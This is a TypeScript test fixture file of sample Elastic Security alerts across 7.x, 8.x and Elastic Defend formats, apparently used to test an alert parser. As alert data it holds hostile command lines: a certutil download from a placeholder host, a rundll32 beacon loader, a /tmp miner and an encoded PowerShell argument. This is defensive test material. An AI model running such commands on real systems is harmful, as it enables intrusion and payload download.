/** Elastic Security alerts, written from the alerts-as-data schema, 7.x signals and Elastic Defend. */

/** Elastic Security alert document, as stored in .alerts-security.alerts-default (flattened keys). */
export const elasticAlert = {
  '@timestamp': '2026-03-01T11:02:33.120Z',
  'kibana.alert.uuid': '6a1c4b0fa1d3e2c5b7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0',
  'kibana.alert.status': 'active',
  'kibana.alert.workflow_status': 'open',
  'kibana.alert.severity': 'critical',
  'kibana.alert.risk_score': 99,
  'kibana.alert.reason':
    'process event with process powershell.exe, by lee on WS-117 created critical alert Encoded PowerShell.',
  'kibana.alert.original_time': '2026-03-01T11:02:30.000Z',
  'kibana.alert.rule.name': 'Encoded PowerShell command',
  'kibana.alert.rule.uuid': 'a6bbd2a8-6ab8-4a8f-8b1e-0b3f1f6a2b10',
  'kibana.alert.rule.description': 'Detects PowerShell started with an encoded command.',
  host: { name: 'WS-117', os: { family: 'windows' } },
  user: { name: 'lee', domain: 'corp.example', email: 'lee.park@corp.example' },
  source: { ip: '10.1.2.3' },
  process: { name: 'powershell.exe', pid: 4242, args: ['-enc', 'SQBFAFgA'] },
  event: { kind: 'signal', category: ['process'] },
};

/** An 8.x network alert with nested keys, a rule-name override, run as SYSTEM: no person. */
export const elasticNetwork = {
  '@timestamp': '2026-03-06T02:14:09.511+0000',
  kibana: {
    alert: {
      uuid: '3f0c9a7e2b41d5c8e6a1f0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9',
      status: 'active',
      workflow_status: 'acknowledged',
      severity: 'high',
      risk_score: 73,
      reason: 'network event with destination cdn.bad.example created high alert C2 beacon.',
      original_time: 1772763249000,
      rule: {
        name: 'C2 beacon to a newly seen domain',
        rule_name_override: 'threat.indicator.description',
        uuid: '0c1d2e3f-4a5b-6c7d-8e9f-a0b1c2d3e4f5',
      },
    },
  },
  threat: { indicator: { description: 'Cobalt Strike beacon: cdn.bad.example' } },
  host: { name: 'SRV-APP-04', ip: ['10.50.0.4', '172.16.9.4'] },
  user: { name: 'SYSTEM', domain: 'NT AUTHORITY' },
  process: { name: 'rundll32.exe', command_line: 'rundll32.exe C:\\ProgramData\\a.dll,Start' },
  destination: { ip: '198.51.100.66', domain: 'cdn.bad.example' },
  dns: { question: { name: 'cdn.bad.example' } },
  url: { full: 'https://cdn.bad.example/jquery-3.3.1.min.js', domain: 'cdn.bad.example' },
  related: { ip: ['10.50.0.4', '198.51.100.66'], hosts: ['SRV-APP-04'], user: ['SYSTEM'] },
};

/** An 8.x Linux alert: a bare local user (root) with a hash of the dropped file; no person. */
export const elasticLinux = {
  '@timestamp': '2026-03-06T05:00:00Z',
  'kibana.alert.uuid': 'linux-7d1e',
  'kibana.alert.workflow_status': 'open',
  'kibana.alert.severity': 'medium',
  'kibana.alert.risk_score': 47,
  'kibana.alert.rule.name': 'Binary executed from /tmp',
  'kibana.alert.original_time': '1772773200000',
  'host.name': 'web-3',
  'host.ip': '10.60.0.3',
  'user.name': 'root',
  'process.name': 'kworkerd',
  'process.executable': '/tmp/.x/kworkerd',
  'process.command_line': '/tmp/.x/kworkerd -o pool.example:3333',
  'process.hash.sha256': 'abababababababababababababababababababababababababababababababab',
  'file.path': '/tmp/.x/kworkerd',
  'file.hash.sha1': 'cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd',
  'related.hash': ['abababababababababababababababababababababababababababababababab'],
};

/** A 7.x detection signal (`.siem-signals-*`), as a search hit: its id is the hit's `_id`. */
export const elasticSignalHit = {
  _index: '.siem-signals-default-000001',
  _id: '9b1c4f7d6e5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c',
  _source: {
    '@timestamp': '2023-05-10T08:00:05.000Z',
    signal: {
      status: 'open',
      reason: 'process event with process certutil.exe, by kfox on WS-9 created medium alert.',
      original_time: '2023-05-10T08:00:01.000Z',
      rule: {
        id: '7c3e1a2b-4d5f-6a7b-8c9d-0e1f2a3b4c5d',
        name: 'Certutil download',
        severity: 'medium',
        risk_score: 47,
        description: 'certutil.exe used to download a file.',
      },
      parent: { id: 'Xy12AbCdEfGh', index: 'logs-endpoint.events.process-default' },
      original_event: { kind: 'event', category: 'process' },
    },
    host: { name: 'WS-9', ip: ['10.9.0.9'] },
    user: { name: 'kfox', domain: 'corp.example' },
    process: {
      name: 'certutil.exe',
      command_line: 'certutil -urlcache -f http://x.example/a a.exe',
    },
  },
};

/** A raw Elastic Defend malware alert (`logs-endpoint.alerts-*`), numeric severity. */
export const elasticDefendAlert = {
  '@timestamp': '2026-03-07T12:30:00.000Z',
  message: 'Malware Detection Alert',
  event: {
    id: 'NmQzY2M0ZjItYTRjOC00ZGQ0LWE2ZTAtNzBhZmU4M2Y',
    kind: 'alert',
    module: 'endpoint',
    dataset: 'endpoint.alerts',
    action: 'execution',
    severity: 73,
    risk_score: 73,
    category: ['malware', 'intrusion_detection'],
  },
  rule: { name: 'Malicious file - Detected - Emotet', id: 'c1d2e3f4' },
  agent: { id: '5e6f7a8b-9c0d-1e2f-3a4b-5c6d7e8f9a0b', type: 'endpoint' },
  host: { name: 'LT-0311', hostname: 'lt-0311', ip: ['10.70.3.11'] },
  user: { name: 'elena.rossi@corp.example', domain: 'CORP' },
  file: {
    name: 'invoice_0391.doc.exe',
    path: 'C:\\Users\\erossi\\Downloads\\invoice_0391.doc.exe',
    hash: {
      sha256: 'efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef',
      md5: '0123456789abcdef0123456789abcdef',
    },
  },
  Endpoint: { policy: { applied: { name: 'Default' } } },
};

/** A plain log event: not an alert of any Elastic generation; refused. */
export const elasticLogEvent = {
  '@timestamp': '2026-03-07T12:31:00.000Z',
  event: { kind: 'event', category: ['authentication'], outcome: 'failure' },
  user: { name: 'jdoe' },
  source: { ip: '198.51.100.9' },
};
